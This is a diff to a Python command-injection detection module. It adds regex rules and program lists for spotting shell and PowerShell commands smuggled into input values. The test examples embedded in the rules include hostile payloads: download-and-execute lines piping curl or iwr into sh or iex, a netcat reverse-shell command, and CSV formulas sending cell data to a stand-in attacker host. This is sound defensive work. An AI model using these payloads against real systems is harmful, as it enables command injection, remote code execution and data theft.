@@ -48,6 +48,46 @@ ADMIN_PROGRAMS = (
 _PREFIX = r"(?:(?:time|nohup|strace|ltrace|nice|ionice|stdbuf|setsid|timeout\s+\d+\w?|watch|sudo|doas|env|exec|command|busybox)\b[\s;]*)"
 _BIN = r"(?:/?(?:usr/)?(?:local/)?s?bin/)"
 
+# Programs that are no words of English, and what a shell does itself: behind a separator at the
+# beginning of a value, or behind a host, a number or the name of a file, they are commands.
+_PROGRAMS = (
+    r"(?:rm|mv|cp|nc|ncat|netcat|ssh|scp|sftp|telnet|tftp|ftp|sudo|doas|ch(?:mod|own|grp|attr)|mkdir|rmdir|dd|tar|zip|unzip|g(?:un)?zip|curl|wget|ping6?|nslookup|dig|whoami|uname|ps|df|du|ls|ln|id|pwd|cat|tac|nl|grep|egrep|sed|g?awk"
+    r"|perl|python[\d.]*|ruby|php\d?|lua|node|bash|zsh|ksh|dash|sh|xargs|nohup|setsid|coproc|strace|gdb|gcc|git|docker|kubectl|npm|npx|pip3?|cargo|apt(?:-get)?|yum|dnf|apk|systemctl|crontab|useradd|usermod|passwd|rsync|socat|nmap"
+    r"|tcpdump|tmux|vim|nano|tee|xxd|od|base64|openssl|u?mount|uptime|printf|echo|env|printenv|unset|mysql(?:dump)?|psql|mongo(?:sh)?|sqlite3|redis-cli|logger|sendmail|mailx|mutt|ifconfig|netstat|arp|lsof|pkill|killall|pgrep"
+    r"|calc|notepad|mspaint|del|erase|ren|xcopy|robocopy|dir|attrib|taskkill|tasklist|shutdown|reboot|cscript|wscript|mshta|certutil|cmd|powershell|pwsh|ipconfig|schtasks|wmic|regsvr32|rundll32|gci|gc|iex|iwr|irm|gwmi|saps|icm|gps|gsv|gal)"
+)
+# Those that are: alone, or with one argument at the end.
+_WORDED = r"(?:make|find|sort|head|tail|less|more|kill|sleep|touch|source|script|screen|history|last|free|top|who|w|set|test|type|true|exit|halt|time|date|watch|wall|write|at|host|service|go|split|cut|join|move|start|vol|ver|assoc|cd|read|mount|which|ed|vi|su|mail|copy|ip|eval|exec|trap|timeout|export|alias|md|rd|ri|ni)"
+_ONE_ARGUMENT = r"\s+[^\s;|&]+\s*$"
+# What a program is often given to work on: a number, a host, a file.
+_TARGET = r"(?:\d[\w.:-]*|[\w-]+\.[\w.:/-]+|[\w.-]*/[\w./-]*|localhost)"
+
+# Behind a target, what the patterns of the first pass for all separators do not have.
+_BEHIND_TARGET = tuple(
+    rf"[=\x0b\"][\w.:/-]* ?{separator} ?(?:{programs})(?:[ \x0b\"]|$)"
+    for separator in ("[;|]", "&&?")
+    for programs in (
+        "scp|s?ftp|doas|rmdir|(?:un)?zip|gzip|ping6|ln|nl|egrep",
+        "lua|ksh|dash|xargs|setsid|coproc|trap|timeout|gcc|git",
+        "npx|cargo|apt-get|dnf|apk|rsync|tmux|nano|tee|od",
+        "base64|uptime|export|unset|mysqldump|mysql|mongosh?|sqlite3|logger|sendmail",
+        "mailx?|mutt|arp|lsof|pgrep|calc|notepad|mspaint|erase|ren",
+        "xcopy|robocopy|attrib|taskkill|gci|gc|iwr|irm|gwmi|saps",
+    )
+)
+
+_BEHIND_LINE = tuple(
+    rf"[=\x0b\"][\w.:/-]*{line}[ \t]*(?:{programs}) [\w@./*-]"
+    for line in (r"[\r\n]+", r"(?:\\[rn])+")
+    for programs in (
+        "rm|mv|cp|nc|ncat|ssh|scp|s?ftp|telnet|sudo|doas",
+        "chmod|chown|mkdir|rmdir|dd|tar|zip|unzip|curl|wget|ping6?",
+        "nslookup|dig|ps|df|du|ln|grep|sed|g?awk|perl|python3?",
+        "ruby|php|lua|node|bash|zsh|sh|xargs|eval|exec",
+        "nohup|trap|timeout|git|docker|kubectl|npm|npx|pip3?|apt|echo|cat|ls|id|mysql|psql|del|cmd|powershell",
+    )
+)
+
 
 def _cmd(
     name: str,
@@ -170,7 +210,7 @@ SHELL = (
     _cmd("separator_windows", r"(?:;|\||&)\s*(?:bcdboot|bcdedit|regedit|schtasks|wevtutil|vssadmin|ntdsutil|nltest|diskpart|icacls|takeown|msiexec|odbcconf|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|tasklist|systeminfo|ipconfig|esentutl|forfiles)(?:\.exe)?\s*(?:[/<>-]|\s\w|$)", "LOLBAS", STRONG, examples=('| systeminfo',)),
     _cmd("interpreter_path", r"\bbin/(?:perl|python[\d.]*|ruby|php\d?|node|lua|(?:ba|z|k|c|da)?sh)\s+-\w|\bpython[\d.]*\s+-m\s+\w", _GTFO, STRONG, examples=('bin/bash -c whoami")}',)),
     _cmd("netcat_shell", r"\b(?:nc|ncat|netcat)\b[^|;&]{0,60}\s-[ec]\s+\S*(?:sh|cmd)", _PATT, STRONG, examples=('nc -lvvp 4444 -e /bin/sh',)),
-    _cmd("redirect_start", r"^\s*>{1,2}\s*/\w|^\s*[<>]\(\s*[a-z]+|^\s*\$\[\s*\d", _PATT, STRONG, examples=('<(cmd)',)),
+    _cmd("redirect_start", r"^\s*>{1,2}\s*/\w|^\s*<\s*/(?:etc|proc|var|root|home|dev|usr|opt|srv|tmp)/\w|^\s*[<>]\(\s*[a-z]+|^\s*\$\[\s*\d", _PATT, STRONG, examples=('<(cmd)', '< /etc/hosts')),
     _cmd("batch_exist", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?exist\s+\S+\s+\(?(?:echo|goto|cmd|set|call|del|copy|type|start|exit|$)", "CRS 932140: cmd.exe IF", STRONG, examples=('IF EXIST "temp.txt" ECHO found',)),
     _cmd("ssi_exec", r"\bcmd\s*=\s*['\"]?\s*(?:cat|ls|id|dir|whoami|/|ps|wget)", _CRS, 0.9, examples=("{% set cmd = 'id' %}",)),
     _cmd("download_execute", r"\b(?:wget|curl|lwp-download|fetch|aria2c)\b[^;|&]*(?:\||;|&&)\s*(?:ba|z|da|k)?(?:sh|chmod|perl|python|php)", _PATT, STRONG, examples=('curl 198.51.100.7|sh',)),
@@ -189,4 +229,23 @@ SHELL = (
     Indicator("shell.formula", "csv_injection", r"^[\s'\"]*[=+@-][^\r\n]{0,60}(?:\b\w{1,40}\|\s*['\"]?|\b(?:hyperlink|webservice|importxml|importdata|importhtml|importrange|importfeed|filterxml|dde|dderequest|ddeinitialize|rtd|call|register\.id)\s*\()", "OWASP: CSV Injection", CERTAIN,
           prefilter=(r"[=+@\"-](?:hyperlink|webservice|import(?:xml|data|html|range|feed)|filterxml|dde|rtd|call|register\.id) ?\(", r"\w\|'"),
           examples=("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C notepad'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)")),
+    _cmd("leading_program", r"^[\s'\"^]*(?:;|\|\||&&|\^?&)\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, STRONG,
+          prefilter=_BEHIND_TARGET,
+          examples=("; rm x", "; sudo id", "; nc host 80", "& calc", "& del x", "^&dir", "&& git pull", "|| mv a b")),
+    # A row of a table in Markdown begins with a bar.
+    _cmd("leading_pipe", r"^[\s'\"^]*\|\s*(?:telnet|nc|ncat|ssh|scp|s?ftp|rm|mv|cp|sudo|tar|curl|wget|bash|zsh|xargs|eval|exec|python\d?|perl|php|mailx?|tee|cmd|del|calc|dir)(?:\.exe)?(?:\s+[\w@./*\\-]|\s*$)", _OWASP, STRONG, examples=("| telnet host", "|calc", "| rm x")),
+    _cmd("leading_word", r"^[\s'\"^]*(?:(?:;|\|\||&&)\s*" + _WORDED + r"(?:\.exe)?(?:" + _ONE_ARGUMENT + r"|\s*$)|\^?&\s*" + _WORDED + _ONE_ARGUMENT + r"|&\s*(?:copy|move|fc)\s+\S+\s+\S+\s*$|(?:;|\|\||&&)\s*(?:timeout|trap|eval|exec)\s+\S+\s+\S+\s*$|(?:;|\|\|?|&&?)\s*(?:mail\s+\S*@|go\s+(?:run|get|build)\s|service\s+\S+\s+(?:re)?(?:start|stop)|sc\s+(?:stop|start|create|config|delete|query)\s)|(?:;|\|\|?|&&)\s*\.?\s?(?:\.{1,2}/|~/|/(?:tmp|dev/shm|var/tmp|bin|opt|home)/)\w)", _OWASP, STRONG,
+          prefilter=(r"[=\"]\^&", r"=&(?:move|copy|del|dir|echo|type|ping|net|ver|cmd|start|sh|bash|rm|cat|ls|id|cp|mv|nc|wget|curl|sc|fc|md|rd|sudo) ", r"=& (?:move|less|more|source|script|watch|write|read|go|cd|at|split|cut|sc|fc|md|rd) \S"),
+          examples=("; mail a@e.vil < x", "; go run x", "& move a b", "; make", "; find x", "; kill 1", "; su -", "& start calc", "; ./x", "; . /tmp/x", "&& ./x", "& copy a b")),
+    _cmd("target_program", r"^(?:" + _TARGET + r"\s*(?:;|\|\|?|&&?)|\w{1,2}\s*(?:;|\|\|?|&&)|[\w.:/-]+\$\()\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, CERTAIN,
+          examples=("127.0.0.1; rm x", "127.0.0.1 & calc", "127.0.0.1|telnet e.vil 80", "a.txt; rm x", "8.8.8.8 && sudo id", "x;git pull", "x$(rm a)")),
+    _cmd("word_program", r"^\w{3,24}\s*(?:;|\|\|?|&&)\s*(?:rm|mv|nc|ncat|telnet|sudo|chmod|chown|wget|dd|xargs|mkdir|rmdir|pkill|killall|nohup)\s+[\w@./*-]", _OWASP, CERTAIN, examples=("shop; rm x", "shop|nc host 80", "shop && sudo id")),
+    _cmd("line_program", r"^[\w.:/-]*[\r\n]+[ \t]*(?:sudo[ \t]+)?" + _PROGRAMS + r"[ \t]+[\w@./*-]", _OWASP, 0.5,
+          prefilter=_BEHIND_LINE, examples=("x\nrm a", "x\nsudo id", "\nnc host 80", "127.0.0.1\ngit pull")),
+    _cmd("target_word", r"^(?:" + _TARGET + r"|\w{1,2})\s*(?:(?:;|\|\||&&)\s*" + _WORDED + r"(?:" + _ONE_ARGUMENT + r"|\s*$)|(?:;|\|\|?|&&)\s*\.?\s?(?:\.{1,2}/|~/|/(?:tmp|dev/shm|var/tmp|bin|opt|home)/)\w)", _OWASP, 0.9,
+          prefilter=(r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\||&&) ?(?:less|more|source|script|screen|history|exit|watch|wall|write)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|) ?(?:service|go|move|read|which|ed|mail|vol|assoc|cd)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|?|&&) ?(?:\. )?(?:\.{1,2}/|~/|/tmp/)"),
+          examples=("x;su -", "x||make", "127.0.0.1;halt", "x; ./x")),
+    _cmd("powershell_alias", r"\biex\s*\(\s*(?:iwr|irm|curl|wget|invoke-\w+|new-object|\$\w|['\"\[(])|\b(?:iwr|irm|curl|wget|gc)\s+[^\s|]+\s*(?:-\w+\s*)*\|\s*iex\b|\(\s*(?:iwr|irm|gc|gcm)\s[^()\s]+\s*\)\s*\.|&\s*\(\s*(?:gcm|gal|get-command|get-alias)\b|\[(?:system\.)?diagnostics\.process\]\s*::\s*start", "PowerShell documentation: aliases and the call operator", CERTAIN,
+          prefilter=(r"iex ?\( ?(?:iwr|irm|curl|wget|invoke-|new-|\$|['\"\[(])", r"\| ?iex(?:$|[\x0b&\" ;)])", r"\( ?(?:iwr|irm|gcm?|gal|get-(?:command|alias)) ", r"diagnostics\.process\]"),
+          examples=("iex(iwr e.vil)", "iwr e.vil|iex", "&(gcm i*x)", "(iwr e.vil).content", "[System.Diagnostics.Process]::Start('calc')")),
 )
